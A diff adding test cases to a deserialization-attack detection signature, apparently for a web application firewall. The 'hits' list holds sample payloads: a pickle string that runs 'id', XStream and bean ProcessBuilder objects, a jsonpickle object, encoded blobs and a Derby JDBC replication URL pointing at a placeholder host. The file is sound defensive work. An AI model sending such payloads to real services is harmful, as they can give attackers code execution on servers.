@@ -52,6 +52,10 @@ export const deserialization: Signature = {
       'jdbc:derby:a;startMaster=true;slaveHost=203.0.113.9',
       "(lp0\nS'a'\np1\nacos\nsystem\n(S'id'\ntR.",
       '<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>',
+      'H4sIAAAAAAAAAFvzloG1uIhBPyuxLFEvpzQxJ1UvOT+3oCi1uDgzP88qsSQzP08vOSezNK8EAF1Cb5gqAAAA',
+      'gAN9cQBYBAAAAG5hbWVxAVgBAAAAYXECcy4=',
+      { body: '{"py/object":"__main__.Job","cmd":"x"}', contentType: 'application/json' },
+      { query: 'xml=<bean class="java.lang.ProcessBuilder"/>' },
     ],
     misses: [
       'a:2:{s:1:"a";i:1;s:1:"b";i:2;}',
